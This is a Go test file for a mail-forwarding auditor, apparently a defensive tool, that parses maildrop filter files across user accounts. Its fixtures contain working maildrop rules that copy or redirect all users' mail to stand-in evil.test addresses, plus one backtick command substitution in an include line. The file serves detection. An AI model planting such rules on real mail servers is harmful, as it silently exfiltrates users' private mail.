package maildrop_test

import (
	"context"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"relayguard/forward"
	"relayguard/forward/files"
	"relayguard/forward/maildrop"
)

// unit reads one unit of a plan.
func unit(t testing.TB, h *forward.Host, id string) forward.Reading {
	t.Helper()
	for _, u := range maildrop.Plan(t.Context(), h).Units {
		if u.ID == id {
			return u.Read(t.Context())
		}
	}
	t.Fatalf("no unit %q", id)
	return forward.Reading{}
}

func lines(r forward.Reading) []string {
	var all []string
	for _, rule := range r.Rules {
		line := fmt.Sprintf("%s %s %s %s:%d", rule.Owner, rule.Mode, strings.ReplaceAll(rule.Target, forward.Unknown, "?"), rule.Source, rule.Line)
		if rule.Dormant != "" {
			line += " dormant"
		}
		all = append(all, line)
	}
	slices.Sort(all)
	return all
}

// tree makes a root with files in it, and a host that looks at it.
func tree(t testing.TB, contents map[string]string, names ...string) *forward.Host {
	t.Helper()
	root := t.TempDir()
	h := &forward.Host{}
	for _, name := range names {
		h.Accounts = append(h.Accounts, forward.Account{Name: name, UID: os.Getuid(), GID: os.Getgid(), Home: "/home/" + name, Shell: "/bin/sh"})
		if err := os.MkdirAll(filepath.Join(root, "home", name), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range contents {
		file := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	rooted, err := files.Rooted(root)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { rooted.Close() })
	h.Files = rooted
	return h
}

func TestServerFilterIsEverybodys(t *testing.T) {
	h := tree(t, map[string]string{
		"etc/maildroprc":         "FWD=\"a@evil.test\"\ninclude \"/etc/common\"\nexception {\n include \"$HOME/.extra\"\n}\ncc \"!$LOGNAME@evil.test\"\n",
		"etc/common":             "cc \"!all@evil.test\"\n",
		"home/alice/.mailfilter": "to \"!$FWD\"\n",
		"home/bob/.extra":        "cc \"!bob@evil.test\"\nDEFAULT=\"!rest@evil.test\"\n",
		"home/carol/.mailfilter": "include \".filter/x\"\n",
		"home/carol/.filter/x":   "to \"!carol@evil.test\"\n",
	}, "alice", "bob", "carol", "dave")
	for id, want := range map[string][]string{
		"maildrop /etc/maildroprc":         {"* copy ?@evil.test /etc/maildroprc:6", "* copy all@evil.test /etc/common:1"},
		"maildrop /etc/courier/maildroprc": nil,
		"maildrop alice":                   {"alice redirect a@evil.test /home/alice/.mailfilter:1"},
		"maildrop bob":                     {"bob copy bob@evil.test /home/bob/.extra:1", "bob redirect rest@evil.test /home/bob/.mailfilter:0"},
		"maildrop carol":                   {"carol redirect carol@evil.test /home/carol/.filter/x:1"},
		"maildrop dave":                    nil,
	} {
		reading := unit(t, h, id)
		if got := lines(reading); !slices.Equal(got, want) || len(reading.Gaps) > 0 {
			t.Errorf("%s: got %q %v, want %q", id, got, reading.Gaps, want)
		}
	}
	plan := maildrop.Plan(t.Context(), h)
	for _, name := range []string{"/etc/maildroprc", "/etc/courier/maildroprc", "/etc/common"} {
		if !slices.Contains(plan.Uses, name) {
			t.Errorf("the plan uses %q", plan.Uses)
		}
	}
}

func TestServerFilterThatDeliversEndsAll(t *testing.T) {
	h := tree(t, map[string]string{
		"etc/courier/maildroprc": "to \"!all@evil.test\"\n",
		"home/alice/.mailfilter": "to \"!a@evil.test\"\n",
	}, "alice")
	if got := lines(unit(t, h, "maildrop alice")); len(got) != 1 || !strings.HasSuffix(got[0], "dormant") {
		t.Errorf("got %q", got)
	}
}

func TestDefaultOfServerIsEverybodys(t *testing.T) {
	h := tree(t, map[string]string{"etc/maildroprc": "DEFAULT=\"!all@evil.test\"\n"}, "alice")
	got := lines(unit(t, h, "maildrop /etc/maildroprc"))
	if !slices.Equal(got, []string{"* redirect all@evil.test /etc/maildroprc:0"}) {
		t.Errorf("got %q", got)
	}
}

// TestRefusedFilters has what Debian's maildrop 2.9.3 did with modes and owners of
// ~/.mailfilter and of the home directory, seen with maildrop -d.
func TestRefusedFilters(t *testing.T) {
	if os.Getuid() != 0 {
		if os.Getenv("CI") != "" || os.Getenv("RELAYGUARD_REQUIRE") != "" {
			t.Fatal("needs root: files of several accounts")
		}
		t.Skip("needs root: files of several accounts")
	}
	for _, c := range []struct {
		homeMode fs.FileMode
		homeUID  int
		mode     fs.FileMode
		uid      int
		read     bool
	}{
		{0o755, 1, 0o600, 1, true}, {0o755, 1, 0o640, 1, true}, {0o755, 1, 0o644, 1, true}, {0o755, 1, 0o620, 1, true},
		{0o755, 1, 0o600, 0, false}, {0o755, 1, 0o644, 0, false}, {0o757, 1, 0o600, 1, false}, {0o752, 1, 0o600, 1, false},
		{0o775, 1, 0o600, 1, true}, {0o755 | fs.ModeSticky, 1, 0o600, 1, false}, {0o755, 0, 0o600, 1, false},
		{0o755, 1, 0o666, 1, false}, {0o755, 1, 0o602, 1, false}, {0o755, 1, 0o200, 1, false},
	} {
		h := tree(t, map[string]string{"home/x/.mailfilter": "to \"!a@evil.test\"\n"}, "x")
		h.Accounts[0].UID, h.Accounts[0].GID = 1, 1
		at := rootOf(t, h)
		for _, err := range []error{os.Chown(at+"/home/x", c.homeUID, 1), os.Chmod(at+"/home/x", c.homeMode),
			os.Chown(at+"/home/x/.mailfilter", c.uid, 1), os.Chmod(at+"/home/x/.mailfilter", c.mode)} {
			if err != nil {
				t.Fatal(err)
			}
		}
		got := unit(t, h, "maildrop x").Rules
		if len(got) != 1 || (got[0].Dormant == "") != c.read {
			t.Errorf("%+v: %+v", c, got)
		}
	}
}

// rootOf is the directory that a host of tree looks at.
func rootOf(t *testing.T, h *forward.Host) string {
	t.Helper()
	inside, err := h.Files.Lstat(t.Context(), "/home/x/.mailfilter")
	if err != nil {
		t.Fatal(err)
	}
	roots, _ := filepath.Glob(filepath.Join(filepath.Dir(t.TempDir()), "*"))
	for _, root := range roots {
		info, err := os.Lstat(filepath.Join(root, "home/x/.mailfilter"))
		if err == nil && info.Sys().(*syscall.Stat_t).Ino == inside.Inode {
			return root
		}
	}
	t.Fatalf("none of %q", roots)
	return ""
}

func TestWhatCannotBeReadIsAsked(t *testing.T) {
	h := tree(t, map[string]string{
		"home/alice/.mailfilter": "include `hostname`\n",
		"home/bob/.mailfilter":   strings.Repeat("#", 5<<20),
		"home/carol/.mailfilter": "to to\n",
		"home/dave/.mailfilter":  strings.Repeat("(", 100_000),
	}, "alice", "bob", "carol", "dave")
	for _, name := range []string{"alice", "bob", "carol", "dave"} {
		reading := unit(t, h, "maildrop "+name)
		asked := slices.ContainsFunc(reading.Rules, func(r forward.Rule) bool { return r.Kind == forward.Asked && r.Dormant == "" })
		if !asked || len(reading.Gaps) == 0 {
			t.Errorf("%s: %+v", name, reading)
		}
	}
}

// counted counts what is read of a host.
type counted struct {
	forward.Files
	reads int
}

func (c *counted) Read(ctx context.Context, name string, o forward.ReadOptions) ([]byte, forward.Info, error) {
	c.reads++
	return c.Files.Read(ctx, name, o)
}

func TestHomesWithoutFilterAreNotRead(t *testing.T) {
	h := tree(t, nil, "alice", "bob")
	plan := maildrop.Plan(t.Context(), h)
	c := &counted{Files: h.Files}
	h.Files = c
	for _, u := range plan.Units {
		if !u.Server {
			u.Read(t.Context())
		}
	}
	if c.reads != 0 {
		t.Errorf("%d files read", c.reads)
	}
}

func BenchmarkHomesWithoutFilter(b *testing.B) {
	h := &forward.Host{Files: files.Local()}
	for n := range 50_000 {
		h.Accounts = append(h.Accounts, forward.Account{Name: fmt.Sprint("user", n), UID: n + 1000, Home: fmt.Sprint("/nonexistent/user", n)})
	}
	for b.Loop() {
		for _, u := range maildrop.Plan(b.Context(), h).Units {
			u.Read(b.Context())
		}
	}
}
